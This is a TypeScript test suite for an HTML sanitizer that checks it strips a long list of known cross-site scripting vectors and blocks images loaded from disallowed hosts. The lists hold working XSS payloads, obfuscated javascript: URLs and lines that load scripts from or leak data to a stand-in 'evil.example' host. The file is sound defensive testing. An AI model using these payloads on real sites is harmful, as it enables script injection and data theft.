import fc from 'fast-check'
import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { picturesFromNowhere, refusedPictureSite, type PictureSources } from '@ashlar/schema'
import { longestMarkup } from './markup-limits.ts'
import { makeSanitizer, safeHtml } from './safe-html.ts'

const { window } = new JSDOM('')
const sanitize = makeSanitizer(window)
const safe = (markup: string): string => sanitize(markup, () => undefined).markup

/** The vectors of the well-known collections of markup that runs code. */
const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=javascript:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  '<IMG LOWSRC="javascript:alert(1)" DYNSRC="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<div style="background:url(https://evil.example/?leak)">x</div>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999">x</div>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<template><script>alert(1)</script></template>',
  '<div id=getElementById name=body>x</div>',
  '<x onclick=alert(1)>x</x>',
  '<a href="https://ok.example" ping="https://evil.example" target=_top>x</a>',
  '<img srcset="https://evil.example/x 1x" src="https://ok.example/a.png">',
]

const allowed = /^(?:https?:|mailto:|tel:|\/(?![/\\])|[#?]|data:image\/)/i

/** What in the markup could run, fetch, ask or cover: nothing at all where it is safe. */
const dangers = (markup: string): readonly string[] => {
  const { document } = new JSDOM(`<body><main>${markup}</main></body>`).window
  return [...document.querySelectorAll('head > *, main *')].flatMap((element) => [
    ...(/^(script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|template|video|audio|body)$/i.test(
      element.localName,
    )
      ? [element.localName]
      : []),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (/^on|^(srcdoc|srcset|action|formaction|ping|class|popover|autofocus)/i.test(name)) return [name]
      if (/^(href|src|xlink:href)$/i.test(name) && !allowed.test(value)) return [`${name}=${value}`]
      if (name === 'style' && /url|expression|position|z-index|inset/i.test(value)) return [`style=${value}`]
      if (/^(id|name)$/.test(name) && !value.startsWith('user-content-')) return [`${name}=${value}`]
      return []
    }),
  ])
}

describe('markup that was made safe', () => {
  it.each(vectors)('holds nothing that runs, fetches or asks: %s', (vector) => {
    expect(dangers(safe(vector))).toEqual([])
    // What is safe stays so when it is read and made safe again.
    expect(dangers(safe(safe(vector)))).toEqual([])
  })

  it('is safe however the known ways are put together', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.constantFrom(...vectors),
            fc.constantFrom('<p title="', '">', '<!--', '-->', '<table>', '</svg>', '<b>'),
          ),
          { maxLength: 6 },
        ),
        (pieces) => {
          expect(dangers(safe(pieces.join('')))).toEqual([])
        },
      ),
      { numRuns: 60 },
    )
  }, 60_000)

  it('has no picture with an empty address', () => {
    expect(safe('<img src alt="x">')).not.toContain('src')
  })

  it('keeps what text is made of', () => {
    const text =
      '<h2>Orders</h2><p style="color: red;">One <b>two</b> <a href="/orders">three</a></p><ul><li>x</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>'
    expect(safe(text)).toBe(text)
  })

  it('opens other places beside the application', () => {
    expect(safe('<a href="https://example.com">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  it('is cut where nobody would read on, and empty where it cannot be made safe', () => {
    expect(safe('x'.repeat(longestMarkup * 3)).indexOf('<')).toBe(longestMarkup)
    expect(safe('x'.repeat(longestMarkup * 3))).toContain('The rest is not shown')
    expect(safe('<div>'.repeat(20_000)).split('<div').length).toBeLessThan(300)
    expect(safeHtml('<b>x</b>', () => undefined)).toEqual({ markup: '', refusedSites: [] })
  })
})

describe('pictures in markup', () => {
  const page = 'https://apps.example.com/applications/1'
  const rule = (sources: PictureSources) => (address: string) => refusedPictureSite(sources, address, page)
  const some = rule({ from: 'hosts', hosts: ['images.example.com'] })

  it('are loaded from where the application allows, and their words stand in the place of others', () => {
    const text =
      '<img src="https://images.example.com/a.png" alt="A"><img src="https://evil.example/?q=1" alt="Chart of sales" width="900">'
    const { markup, refusedSites } = sanitize(text, some)
    expect(markup).toContain('src="https://images.example.com/a.png"')
    expect(markup).toContain('<span role="img" aria-label="Chart of sales">Chart of sales</span>')
    expect(markup).not.toMatch(/evil|900/u)
    expect(refusedSites).toEqual(['evil.example'])
  })

  it('are all looked at, also where they follow each other', () => {
    const text =
      '<p><img src="https://evil.example/1" alt=""><img src="https://evil.example/2" alt=\'"><script>x\'></p>'
    const many = sanitize(text.repeat(50), some).markup
    expect(many).not.toMatch(/evil|<img/u)
    expect(dangers(many)).toEqual([])
  })

  it('of this server and those that are data are always shown', () => {
    const own = '<img src="/files/a.png" alt=""><img src="data:image/png;base64,AAAA" alt="">'
    const { markup, refusedSites } = sanitize(own, rule(picturesFromNowhere))
    expect(markup.match(/src=/gu)).toHaveLength(2)
    expect(refusedSites).toEqual([])
  })

  it.each([
    'https://evil.example/a.png',
    'HTTPS://EVIL.EXAMPLE/a.png',
    'https:\\\\evil.example/a.png',
    'https:/evil.example/a.png',
    ' https://evil.example/a.png',
    'ht\ntps://evil.example/a.png',
    '&#104;ttps://evil.example/a.png',
    'https://images.example.com@evil.example/a.png',
    'https://images.example.com.evil.example/a.png',
    'https://evil.example/images.example.com',
    'https://images.example.com:8443/a.png',
    'http://images.example.com/a.png',
    '//evil.example/a.png',
    '/\\evil.example/a.png',
    '\\\\evil.example/a.png',
  ])('are refused from elsewhere however the address is written: %s', (address) => {
    for (const markup of [
      `<img src="${address}" alt="x">`,
      `<picture><source srcset="${address}"><img src="${address}"></picture>`,
      `<img srcset="${address} 2x" alt="x">`,
      `<input type="image" src="${address}">`,
      `<table background="${address}"><tr><td background="${address}">x</td></tr></table>`,
      `<div style="background: url(${address})">x</div>`,
      `<div style="list-style-image: url('${address}')">x</div>`,
      `<video poster="${address}"></video>`,
      `<svg><image href="${address}"/><image xlink:href="${address}"/></svg>`,
    ]) {
      const safeMarkup = sanitize(markup, some).markup
      const { document } = new JSDOM(safeMarkup, { url: page }).window
      const loading = [...document.querySelectorAll('[src], [srcset], [poster], [background], image, source')]
      // An address that a browser reads as a path of this server is no way out.
      const outside = loading.filter(
        (element) =>
          !('src' in element) || new URL(String(element.src), page).origin !== new URL(page).origin,
      )
      expect(outside.map((element) => element.outerHTML)).toEqual([])
      expect(safeMarkup).not.toContain('url(')
    }
  })
})
